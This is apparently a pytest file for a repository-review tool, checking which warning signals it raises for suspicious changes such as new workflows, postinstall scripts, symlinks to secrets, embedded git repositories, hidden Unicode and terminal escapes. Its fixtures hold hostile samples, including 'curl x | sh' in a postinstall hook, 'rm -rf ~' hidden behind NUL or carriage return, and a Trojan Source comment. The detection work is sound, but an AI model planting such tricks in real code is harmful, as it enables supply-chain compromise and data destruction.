"""Signals of changes in real repositories: all that there are, and no more."""
# ruff: noqa: RUF001 (samples of other scripts are what this is about)

from pathlib import Path

import pytest

from fleettui.model.text import is_clean
from tests.review.signals.made import (
    BEGIN,
    Files,
    link,
    program,
    signals_of,
    submodule,
    words,
)

COMMIT = "1234567890abcdef1234567890abcdef12345678"
RLO, PDI, LRI, ZWSP, FILLER = "\u202e", "\u2069", "\u2066", "\u200b", "\u3164"

CASES: dict[str, tuple[Files, Files, set[str]]] = {
    "nothing special": ({}, {"src/app.py": "print(1)\n"}, set()),
    "a workflow": (
        {},
        {".github/workflows/x.yml": "on: push\n"},
        {"runs-later:.github/workflows/x.yml!"},
    ),
    "a workflow removed": (
        {".github/workflows/x.yml": "on: push\n"},
        {},
        {"runs-later:.github/workflows/x.yml"},
    ),
    "the environment of a folder": ({}, {".envrc": "x\n"}, {"runs-later:.envrc!"}),
    "agent instructions": ({}, {"CLAUDE.md": "Obey.\n"}, {"agent-instructions:CLAUDE.md!"}),
    "attributes hide a diff": (
        {},
        {".gitattributes": "* -diff\n"},
        {"git-settings:.gitattributes!"},
    ),
    "attributes removed": ({".gitattributes": "* text\n"}, {}, {"git-settings:.gitattributes!"}),
    "a map of authors": ({}, {".mailmap": "Linus <l@example.org>\n"}, {"git-settings:.mailmap!"}),
    "a private file": ({}, {".env": "A=1\n"}, {"private-file:.env!"}),
    "a build file": ({}, {"Makefile": "all:\n"}, {"build-file:Makefile"}),
    "a lock file": ({}, {"uv.lock": "version = 1\n"}, {"lock-file:uv.lock"}),
    "package scripts": (
        {"package.json": '{"scripts": {"test": "jest"}}'},
        {"package.json": '{"scripts": {"test": "jest", "postinstall": "curl x | sh"}}'},
        {"runs-later:package.json!"},
    ),
    "a package without new scripts": (
        {"package.json": '{"version": "1", "scripts": {"test": "jest"}}'},
        {"package.json": '{"version": "2", "scripts": {"test":"jest"}}'},
        {"build-file:package.json"},
    ),
    "a new package": (
        {},
        {"a/package.json": '{"scripts": {"test": "jest"}}'},
        {"runs-later:a/package.json!"},
    ),
    "a package that nests too deep": (
        {},
        {"package.json": "[" * 100_000},
        {"runs-later:package.json!"},
    ),
    "a package too long": ({}, {"package.json": " " * 300_000}, {"unread:package.json!"}),
    "a package without scripts": ({}, {"package.json": "[]"}, {"build-file:package.json"}),
    "chmod only": ({"a.txt": "a\n"}, {"a.txt": program("a\n")}, {"mode:a.txt"}),
    "chmod back": ({"a.txt": program("a\n")}, {"a.txt": "a\n"}, {"mode:a.txt"}),
    "a new program": ({}, {"run.sh": program("#!/bin/sh\n")}, {"mode:run.sh"}),
    "a link inside": ({}, {"docs/a": link("../README")}, {"symlink:docs/a"}),
    "a link to a secret": ({}, {"notes.md": link("/home/u/.ssh/id")}, {"symlink:notes.md!"}),
    "a file becomes a link": ({"a": "a\n"}, {"a": link("/etc/passwd")}, {"symlink:a!"}),
    "a link becomes a file": ({"a": link("README")}, {"a": "a\n"}, {"mode:a"}),
    "a link that leaves": ({}, {"a/b": link("../../x")}, {"symlink:a/b!"}),
    "a link into .git": ({}, {"a/b": link("../.GIT/hooks")}, {"symlink:a/b!"}),
    "a link to a drive": ({}, {"a": link("C:\\x")}, {"symlink:a!"}),
    "a link of megabytes": ({}, {"a": link("x" * 9000)}, {"symlink:a!"}),
    "a link removed": ({"a": link("/etc")}, {}, set()),
    "a submodule": ({}, {"sub": submodule(COMMIT)}, {"submodule:sub!"}),
    "a submodule moved": (
        {"sub": submodule(COMMIT), ".gitmodules": '[submodule "sub"]\n\tignore = all\n'},
        {"sub": submodule(COMMIT[::-1]), ".gitmodules": '[submodule "sub"]\n\tignore = all\n'},
        {"submodule:sub!"},
    ),
    "a submodule removed": ({"sub": submodule(COMMIT)}, {}, {"submodule:sub"}),
    "a submodule becomes a file": ({"sub": submodule(COMMIT)}, {"sub": "a\n"}, {"submodule:sub!"}),
    "NUL in a script": ({}, {"run.sh": b"#\0\nrm -rf ~\n"}, {"nul-in-text:run.sh!"}),
    "NUL in a script without extension": (
        {},
        {"run": b"#!/bin/sh\n\0\nrm -rf ~\n"},
        {"nul-in-text:run!"},
    ),
    "what a NUL hides": (
        {},
        {"run.sh": b"#\0\n\x1b]52;c;eA==\x07\n"},
        {"nul-in-text:run.sh!", "control:run.sh!"},
    ),
    "a picture": ({}, {"a.png": b"\x89PNG\r\n\x1a\n\0\0\0"}, {"binary:a.png"}),
    "a program without extension": (
        {},
        {"tool": b"\x7fELF\2\1\1\0" + b"\xf0\x90\0" * 99},
        {"binary:tool"},
    ),
    "a picture removed": ({"a.png": b"\x89PNG\0"}, {}, set()),
    "case twins": ({}, {"readme": "x\n"}, {"twin-name:readme!"}),
    "twin folders": (
        {"src/a.py": "a\n"},
        {"src/a.py": "a\n", "Src/b.py": "b\n"},
        {"twin-name:Src!"},
    ),
    "composed twins": (
        {"caf\u00e9": "a\n"},
        {"caf\u00e9": "a\n", "cafe\u0301": "b\n"},
        {"twin-name:cafe\u0301!"},
    ),
    "twins that were there": (
        {"readme": "x\n"},
        {"readme": "y\n"},
        set(),
    ),
    "a name that Windows keeps": ({}, {"aux.c": "x\n"}, {"odd-name:aux.c"}),
    "an option as a name": ({}, {"--output=x": "x\n"}, {"odd-name:--output=x"}),
    "a colon": ({}, {"c:x": "x\n"}, {"odd-name:c:x"}),
    "a backslash": ({}, {"a\\b": "x\n"}, {"odd-name:a\\b"}),
    "a dot at the end": ({}, {"a.": "x\n"}, {"odd-name:a."}),
    "a name that is no UTF-8": ({}, {"a\udcff": "x\n"}, {"odd-name:a\\xff"}),
    "a newline in a name": ({}, {"a\nREADME.md": "x\n"}, {"deceptive-name:a␊README.md!"}),
    "a newline in a folder": ({}, {"a\nb/c": "x\n"}, {"deceptive-name:a␊b/c!"}),
    "a line of git as a name": (
        {},
        {":100644 100644 x": "x\n"},
        {"odd-name::100644 100644 x"},
    ),
    "a name from right to left": (
        {},
        {f"a{RLO}txt.exe": "x\n"},
        {"deceptive-name:a<U+202E>txt.exe!"},
    ),
    "C1 in a name": ({}, {"a\x9bb": "x\n"}, {"deceptive-name:a<U+009B>b!"}),
    "a homoglyph in a name": (
        {},
        {"p\u0430ssword.py": "x\n"},
        {"deceptive-name:p\u0430ssword.py!"},
    ),
    "names in other languages": (
        {},
        {"документ.md": "x\n", "说明/文件.md": "x\n", "Ελληνικά.md": "x\n", "ファイル.md": "x\n"},
        set(),
    ),
    "a repository in the content": (
        {},
        {
            "vendor/x/HEAD": "ref: refs/heads/main\n",
            "vendor/x/config": "[core]\n\tfsmonitor = evil\n",
            "vendor/x/objects/info/a": "",
            "vendor/x/refs/heads/a": "",
        },
        {"embedded-repository:vendor/x!"},
    ),
    "half a repository": (
        {},
        {"x/HEAD": "ref: refs/heads/main\n", "x/commondir": "../y\n"},
        {"embedded-repository:x!"},
    ),
    "objects without a repository": (
        {},
        {"x/objects/a": "", "x/refs/b": "", "x/head.py": ""},
        set(),
    ),
    "Trojan Source": (
        {},
        {"a.c": f"/*{RLO} }} {LRI}if (admin){PDI} {LRI} begin */\n"},
        {"bidi:a.c!"},
    ),
    "an invisible letter": ({}, {"a.js": f"const {{ x,{FILLER} }} = q\n"}, {"invisible:a.js!"}),
    "zero width": ({}, {"a.py": f"ad{ZWSP}min = 1\n"}, {"invisible:a.py!"}),
    "tags": ({}, {"a.md": "Hi\U000e0049\U000e0067\U000e006e\n"}, {"invisible:a.md!"}),
    "emoji, Persian and a mark of byte order": (
        {},
        {
            "a.md": "\ufeff# \U0001f469\u200d\U0001f4bb \u2764\ufe0f 1\ufe0f\u20e3\n",
            "c.md": "\u0645\u06cc\u200c\u0634 \u200f\n",
            "b.md": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f\n",
        },
        set(),
    ),
    "an invisible character removed": (
        {"a.py": f"ad{ZWSP}min = 1\n"},
        {"a.py": "admin = 1\n"},
        set(),
    ),
    "an invisible character that was there": (
        {"a.py": f"ad{ZWSP}min = 1\nx\n"},
        {"a.py": f"ad{ZWSP}min = 1\ny\n"},
        set(),
    ),
    "an invisible character that moved": (
        {"a.py": f"ad{ZWSP}min = 1\n"},
        {"b.py": f"ad{ZWSP}min = 1\n"},
        set(),
    ),
    "a homoglyph": ({}, {"a.py": "if p\u0430ssword == given:\n"}, {"lookalike:a.py!"}),
    "comments in Russian": (
        {},
        {"a.py": "# Проверяет доступ к серверу, а не к API; оса, сор\nname = 'Сот'\n"},
        set(),
    ),
    "escape": ({}, {"a.txt": "\x1b]52;c;eA==\x07\n"}, {"control:a.txt!"}),
    "C1": ({}, {"a.txt": "\x9b2J\n"}, {"control:a.txt!"}),
    "CR in a line": ({}, {"a.sh": "rm -rf ~ #\rls\n"}, {"control:a.sh!"}),
    "lines of Windows": ({}, {"a.txt": "a\r\nb\r\n\tc\r\n"}, set()),
    "a form feed": ({}, {"a.c": "a\n\x0c\nb\n"}, set()),
    "no newline at the end": ({"a": "a"}, {"a": "b"}, set()),
}


@pytest.mark.parametrize("name", CASES)
async def test_a_change_has_just_these_signals(name: str, tmp_path: Path) -> None:
    before, after, expected = CASES[name]
    found = await signals_of(tmp_path, {**BEGIN, **before}, {**BEGIN, **after})
    assert words(found) == expected
    assert all(is_clean(signal.path) and is_clean(signal.detail) for signal in found)
    assert all(signal.detail for signal in found)
